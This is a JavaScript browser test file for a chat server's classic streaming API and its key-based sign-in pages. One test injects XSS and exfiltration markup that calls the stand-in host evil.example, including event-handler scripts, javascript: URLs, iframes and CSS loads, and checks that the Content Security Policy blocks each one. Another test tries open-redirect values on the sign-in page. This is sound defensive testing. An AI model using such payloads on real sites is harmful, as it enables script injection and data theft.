// The classic API as a browser itself speaks it: a page of ours that does what the Java demo's pages do, from Weir's address.

import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { PICTURES, startBrowser, startWeir } from './world.mjs';

// What the demo's pages have in common: a box for each answer, into which the text goes as HTML.
const SHARED = `
  const chat = document.getElementById('chat');
  window.alerts = [];
  window.alert = (text) => window.alerts.push(text);
  window.ran = [];
  function box(id) { chat.innerHTML += '<article id="' + id + '"></article>'; }
  function setText(text, id) { document.getElementById(id).innerHTML = text; }
  let uid = localStorage.getItem('uid') || crypto.randomUUID();
  localStorage.setItem('uid', uid);
`;

// With the browser's own EventSource; the address is the page's own instead of localhost:8000.
const OLDEST = `${SHARED}
  window.ask = (question, id) => {
    let text = '';
    const source = new EventSource('/chat?message=' + question);
    window.source = source;
    source.onopen = () => box(id);
    source.onmessage = ({ data }) => {
      if (data == '[DONE]') { window.finished = id; return source.close(); }
      const { content } = JSON.parse(data);
      if (content == null || content == 'null') { text = ''; return; }
      setText(text += content, id);
    };
    source.onerror = () => { alert('error'); source.close(); };
  };
`;

const SOCKET = `${SHARED}
  let text = '', id = '';
  const socket = new WebSocket('ws://' + location.host + '/websocket/' + uid);
  window.socket = socket;
  socket.onopen = () => (window.opened = true);
  socket.onmessage = ({ data }) => {
    if (data == '[DONE]') { text = ''; window.finished = id; return; }
    const { content } = JSON.parse(data);
    if (content == null || content == 'null') { text = ''; return; }
    setText(text += content, id);
  };
  socket.onerror = () => alert('error');
  socket.onclose = () => (window.closed = true);
  window.ask = (question, of) => { id = of; socket.send(question); box(id); };
`;

// As the polyfill: a stream over fetch with the header uid, and a question beside it that does not wait for it.
const STREAM = `${SHARED}
  let text = '';
  async function listen(id) {
    window.listening = new AbortController();
    const response = await fetch('/createSse', { headers: { accept: 'text/event-stream', uid }, cache: 'no-store', signal: window.listening.signal });
    if (response.status != 200 || !/^text\\/event-stream(;.*)?$/.test(response.headers.get('content-type'))) return alert('error');
    let lastEventId = '', rest = '';
    for await (const piece of response.body.pipeThrough(new TextDecoderStream())) {
      const blocks = (rest + piece).split('\\n\\n');
      rest = blocks.pop();
      for (const block of blocks) {
        const field = (name) => block.split('\\n').find((line) => line.startsWith(name + ':'))?.slice(name.length + 1);
        lastEventId = field('id') ?? lastEventId;
        const [name, data] = [field('event'), field('data')];
        if (name == 'error') alert('error');
        if (data === undefined || name) continue;
        if (lastEventId == '[TOKENS]') { setText(text + data, id); text = ''; continue; }
        if (data == '[DONE]') { window.finished = id; return; }
        const { content } = JSON.parse(data);
        if (content != null && content != 'null') setText(text += content, id);
      }
    }
    alert('error');
  }
  window.ask = async (question, id) => {
    listen(id).catch(() => {});
    const response = await fetch('/chat', { method: 'POST', body: JSON.stringify({ msg: question }),
      headers: { 'content-type': 'application/json;charset=UTF-8', uid } });
    if (response.ok) { window.tokens = (await response.json()).question_tokens; box(id); }
  };
`;

let browser, weir, pages;

before(async () => {
  pages = mkdtempSync(join(tmpdir(), 'weir-classic-'));
  mkdirSync(join(pages, 'templates'));
  const file = (script) => `<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,"><table id="chat"></table><script>${script}</script>`;
  for (const [name, script] of [['_.html', OLDEST], ['websocket.html', SOCKET], ['1.html', STREAM]]) {
    writeFileSync(join(pages, 'templates', name), file(script));
  }
  for (const part of ['js', 'image']) mkdirSync(join(pages, 'static', part), { recursive: true });
  writeFileSync(join(pages, 'static/image/own.svg'), '<svg xmlns="http://www.w3.org/2000/svg"/>');
  writeFileSync(join(pages, 'static/js/own.js'), 'window.own = true');
  writeFileSync(join(pages, 'static/libraries.html'), `<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,">
    <link rel="stylesheet" href="https://cdn.example/a.css"><table id="chat"></table><script src="https://cdn.example/lib@3/a.min.js?v=1"></script>
    <script src="../js/own.js"></script>\r\n<script>\r\nwindow.inline = true\r\n</script>`);
  [browser, weir] = await Promise.all([startBrowser(), startWeir({ tokensPerSecond: 150, settings: { WEIR_CLASSIC_PAGES: pages } })]);
});

after(async () => {
  await browser?.close();
  await weir?.stop();
  rmSync(pages, { recursive: true, force: true });
});

async function visit(path) {
  const context = await browser.newContext();
  const page = await context.newPage();
  page.setDefaultTimeout(30_000);
  const wrongs = [];
  page.on('pageerror', (error) => wrongs.push(error.message));
  await page.goto(weir.url + path);
  const shown = (id) => page.locator(`#${id}`).textContent();
  const asked = async (question, id) => {
    await page.evaluate(([question, id]) => void window.ask(question, id), [question, id]);
    await page.waitForFunction((id) => window.finished === id, id);
    return shown(id);
  };
  return {
    page, shown, asked,
    async close() {
      assert.deepEqual([wrongs, await page.evaluate(() => window.alerts)], [[], []]);
      await context.close();
    },
  };
}

const running = async () => (await (await weir.api('/readyz')).json()).answers_running;

async function quiet() {
  while (await running()) await new Promise((done) => setImmediate(done));
}

for (const [name, path] of [['a stream and a question', '/'], ['a WebSocket', '/websocket'], ["the browser's EventSource", '/_.html']]) {
  describe(name, () => {
    test('answers are shown, and the conversation goes on', async () => {
      const visitor = await visit(path);
      if (path === '/websocket') await visitor.page.waitForFunction(() => window.opened);
      assert.match(await visitor.asked('My name is Ada.', 'first'), /\S/);
      assert.match(await visitor.asked('What is my name?', 'second'), /Ada/);
      if (path === '/') {
        assert.match(await visitor.shown('second'), /tokens：≈?\d+$/);
        assert.ok((await visitor.page.evaluate(() => window.tokens)) > 0);
      }
      await visitor.close();
    });

    test('closing stops the model', async () => {
      const visitor = await visit(path);
      if (path === '/websocket') await visitor.page.waitForFunction(() => window.opened);
      await visitor.page.evaluate(() => void window.ask('/count 100000', 'long'));
      await visitor.page.waitForFunction(() => document.getElementById('long')?.textContent.length > 20);
      assert.equal(await running(), 1);
      await visitor.page.evaluate(() => (window.listening ? window.listening.abort() : (window.socket ?? window.source).close()));
      await quiet();
      await visitor.close();
    });

    test('nothing in an answer runs, and nothing leaves', async () => {
      const visitor = await visit(path);
      if (path === '/websocket') await visitor.page.waitForFunction(() => window.opened);
      const { left, violations } = await tried(visitor.page, [
        '<img src="data:," onerror="window.ran.push(1)">',
        '<svg onload="window.ran.push(2)"></svg>',
        `<iframe srcdoc="<script src='https://evil.example/x.js'></script>"></iframe>`,
        '<iframe srcdoc="<script>parent.ran.push(3)</script>"></iframe>',
        `<iframe src="https://evil.example/frame"></iframe>`,
        '<iframe src="javascript:parent.ran.push(4)"></iframe>',
        '<img src="https://evil.example/p.png?q=words">',
        '<video src="https://evil.example/v.mp4" autoplay></video>',
        '<style>@import "https://evil.example/i.css"; #chat { background: url(https://evil.example/b.png?q=words) }</style>',
        '<style>@font-face { font-family: f; src: url(https://evil.example/f.woff) } #chat { font-family: f }</style>letters',
        '<link rel="stylesheet" href="https://evil.example/l.css?q=words">',
        '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
        '<a id="run" href="javascript:window.ran.push(5)">a link</a>',
        '<form id="form" action="https://evil.example/form"><input name="q" value="words"></form>',
        '<base href="https://evil.example/">',
      ]);
      assert.deepEqual([left, await visitor.page.evaluate(() => window.ran)], [[], []]);
      for (const directive of ['frame-src', 'img-src', 'script-src-attr', 'script-src-elem', 'form-action', 'style-src-elem', 'base-uri']) {
        assert.ok(violations.includes(directive), `${directive} of ${violations}`);
      }
      await visitor.close();
    });
  });
}

// Puts markup into the page as an answer is, uses what is in it, and returns what was asked of other servers. A page that is led
// to another server is one of them.
async function tried(page, markup) {
  const left = [];
  await page.route(/evil\.example/, (route) => {
    left.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'window.ran.push(6); parent.ran.push(7)' });
  });
  await page.evaluate((markup) => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.effectiveDirective));
    for (const html of markup) chat.insertAdjacentHTML('beforebegin', `<div>${html}</div>`);
    document.getElementById('run').click();
    document.getElementById('form').submit();
    // As jQuery does with the scripts of a text that it is to show.
    const script = document.createElement('script');
    script.src = 'https://evil.example/x.js';
    document.head.append(script);
    return fetch('https://evil.example/fetch?q=words').then(() => window.ran.push(8), () => {});
  }, markup);
  // A picture of the page's own is shown, and the browser has by then refused or asked for what stood before it.
  await page.evaluate(() => new Promise((done) => Object.assign(new Image(), { onload: done, onerror: done, src: '/image/own.svg' })));
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
  const violations = await page.evaluate(() => window.violations);
  return { left, violations };
}

test('a page has its own scripts and styles, and those of elsewhere that it names', async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.route(/cdn\.example/, (route) => route.fulfill(
    route.request().url().endsWith('css') ? { contentType: 'text/css', body: '#chat { color: rgb(1, 2, 3) }' }
      : { contentType: 'text/javascript', body: 'window.library = true' }));
  for (const url of [weir.url, weir.url.replace('127.0.0.1', 'localhost')]) {
    await page.goto(`${url}/static/libraries.html`);
    const color = await page.evaluate(() => getComputedStyle(document.getElementById('chat')).color);
    assert.deepEqual([await page.evaluate(() => [window.library, window.own, window.inline]), color], [[true, true, true], 'rgb(1, 2, 3)']);
    // The pages have localhost:8000 written into them.
    const { port } = new URL(url);
    assert.equal(await page.evaluate((port) => new Promise((done) => {
      const socket = new WebSocket(`ws://localhost:${port}/websocket/7`);
      socket.onopen = () => { socket.close(); done('open'); };
      socket.onerror = () => done('error');
    }), port), 'open');
    assert.equal(await page.evaluate((port) => fetch(`http://localhost:${port}/closeSse`, { headers: { uid: '7' } }).then((r) => r.status), port), 200);
  }
  await context.close();
});

test('a stream that was told everything is not asked for again', async () => {
  const visitor = await visit('/_.html');
  const statuses = [];
  visitor.page.on('response', (response) => response.url().includes('/chat') && statuses.push(response.status()));
  // A page that does not close at [DONE]: the browser comes back by itself, with the last event id, and is sent away.
  const errors = await visitor.page.evaluate(() => new Promise((done) => {
    const source = new EventSource('/chat?message=hello');
    let errors = 0;
    source.onerror = () => { errors += 1; if (source.readyState === EventSource.CLOSED) done(errors); };
  }));
  assert.deepEqual([errors, statuses], [2, [200, 204]]);
  await visitor.close();
});

describe('with keys', () => {
  let guarded;
  before(async () => {
    guarded = await startWeir({ keys: 1, tokensPerSecond: 150, settings: { WEIR_CLASSIC_PAGES: pages } });
  });
  after(() => guarded?.stop());

  // What a visitor would find wrong, but for the 401 of a page that asks whether there is a session, or of a wrong key.
  async function open(options = {}) {
    const context = await browser.newContext({ locale: 'en-US', ...options });
    const page = await context.newPage();
    page.setDefaultTimeout(30_000);
    const wrongs = [];
    page.on('pageerror', (error) => wrongs.push(error.message));
    page.on('console', (message) => {
      const is401 = /401/.test(message.text()) && message.location().url.endsWith('/v1/tickets');
      if (['error', 'warning'].includes(message.type()) && !is401) wrongs.push(`${message.text()} (${message.location().url})`);
    });
    return {
      page, context,
      async close() {
        await context.close();
        assert.deepEqual(wrongs, []);
      },
    };
  }

  async function signIn(page, key = guarded.secrets[0]) {
    await page.locator('#key').fill(key);
    await page.locator('#key').press('Enter');
  }

  test('a page leads to the sign-in, and from there back; it asks, stops, and signs out', async () => {
    const { page, context, close } = await open();
    await page.goto(`${guarded.url}/1.html?a=b#part`);
    assert.equal(new URL(page.url()).pathname, '/sign-in');
    const key = page.getByLabel('API key');
    await key.waitFor();
    assert.equal(await key.evaluate((field) => document.activeElement === field), true);
    for (const [wrong, words] of [['', 'Enter a key.'], ['wk_wrong', 'The server did not accept this key.'], ['密钥', 'The server did not accept this key.']]) {
      await signIn(page, wrong);
      await page.locator('#wrong', { hasText: words }).waitFor();
      assert.equal(await key.getAttribute('aria-invalid'), 'true');
    }
    assert.deepEqual(await context.cookies(), []);
    await signIn(page);
    await page.waitForURL(`${guarded.url}/1.html?a=b#part`);
    const [cookie] = await context.cookies();
    assert.deepEqual([cookie.name, cookie.httpOnly, cookie.sameSite], ['weir_session', true, 'Strict']);
    assert.doesNotMatch(JSON.stringify(await page.evaluate(() => [{ ...localStorage }, { ...sessionStorage }])), /wk_/, 'the key is kept nowhere');

    const asked = async (question, id) => {
      await page.evaluate(([question, id]) => void window.ask(question, id), [question, id]);
      await page.waitForFunction((id) => window.finished === id, id);
      return page.locator(`#${id}`).textContent();
    };
    await asked('My name is Ada.', 'first');
    assert.match(await asked('What is my name?', 'second'), /Ada/);
    const admin = { headers: { authorization: `Bearer ${guarded.admin}` } };
    const runs = async () => (await (await guarded.api('/readyz', admin)).json()).answers_running;
    await page.evaluate(() => void window.ask('/count 100000', 'long'));
    await page.waitForFunction(() => document.getElementById('long')?.textContent.length > 20);
    assert.equal(await runs(), 1);
    await page.evaluate(() => window.listening.abort());
    while (await runs()) await new Promise((done) => setImmediate(done));
    assert.deepEqual(await page.evaluate(() => window.alerts), []);

    await page.goto(`${guarded.url}/sign-in`);
    await page.getByRole('heading', { name: 'You are signed in' }).waitFor();
    await page.getByRole('link', { name: 'Open the pages' }).click();
    await page.waitForURL(`${guarded.url}/`);
    await page.waitForFunction(() => window.ask);
    await page.goto(`${guarded.url}/sign-in`);
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByText('You are signed out.').waitFor();
    assert.deepEqual(await context.cookies(), []);
    await page.goto(`${guarded.url}/websocket`);
    await page.waitForURL(`${guarded.url}/sign-in?to=websocket`);
    await signIn(page);
    await page.waitForURL(`${guarded.url}/websocket`);
    await page.waitForFunction(() => window.opened);
    await close();
  });

  test('it leads to pages of this server and to nothing else', async () => {
    const { page, context, close } = await open();
    for (const to of ['https://evil.example/', '//evil.example/1.html', '/\\evil.example/1.html', 'javascript:alert(1)', 'chat?message=hello', 'closeSse', 'v1/lens/connections']) {
      await context.clearCookies();
      await page.goto(`${guarded.url}/sign-in?to=${encodeURIComponent(to)}`);
      await page.locator('#key').waitFor();
      await signIn(page);
      await page.waitForURL(`${guarded.url}/`);
    }
    await close();
  });

  test('a link of another site is followed without a second sign-in', async () => {
    const { page, close } = await open();
    await page.goto(`${guarded.url}/1.html`);
    await signIn(page);
    await page.waitForURL(`${guarded.url}/1.html`);
    // Another site by its name; the browser shows it no cookie of ours, and none to us for what it leads to.
    await page.goto(weir.url.replace('127.0.0.1', 'localhost'));
    await page.evaluate((url) => {
      const link = Object.assign(document.createElement('a'), { href: `${url}/_.html`, id: 'link', textContent: 'a link' });
      document.body.append(link);
    }, guarded.url);
    const led = page.waitForRequest((request) => request.url() === `${guarded.url}/sign-in?to=_.html`);
    await page.locator('#link').click();
    await led;
    await page.waitForURL(`${guarded.url}/_.html`);
    await page.waitForFunction(() => window.ask);
    await close();
  });

  test('it speaks English and Chinese, in light and dark, on a telephone too', async () => {
    for (const [locale, width, colorScheme, words] of [['en-US', 1280, 'light', 'Sign in'], ['en-GB', 390, 'dark', 'Sign in'], ['zh-CN', 390, 'light', '登录'], ['zh-CN', 1280, 'dark', '登录']]) {
      const { page, close } = await open({ locale, colorScheme, viewport: { width, height: 800 } });
      await page.goto(`${guarded.url}/`);
      await page.getByRole('button', { name: words, exact: true }).waitFor();
      assert.equal(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), true);
      await signIn(page, 'wk_wrong');
      await page.locator('#wrong:not(:empty)').waitFor();
      await page.screenshot({ path: join(PICTURES, `sign-in-${width}-${colorScheme}.png`) });
      const other = locale === 'zh-CN' ? 'en' : 'zh';
      await page.locator(`[data-lang=${other}]`).click();
      await page.getByText(other === 'zh' ? '服务器不接受这个密钥。' : 'The server did not accept this key.').waitFor();
      await page.getByRole('button', { name: other === 'zh' ? '登录' : 'Sign in', exact: true }).waitFor();
      await page.goto(`${guarded.url}/sign-in`);
      await signIn(page);
      await page.waitForURL(`${guarded.url}/`);
      await page.goto(`${guarded.url}/sign-in`);
      await page.locator('#sign-out').waitFor();
      await page.screenshot({ path: join(PICTURES, `signed-in-${width}-${colorScheme}.png`) });
      await close();
    }
  });
});
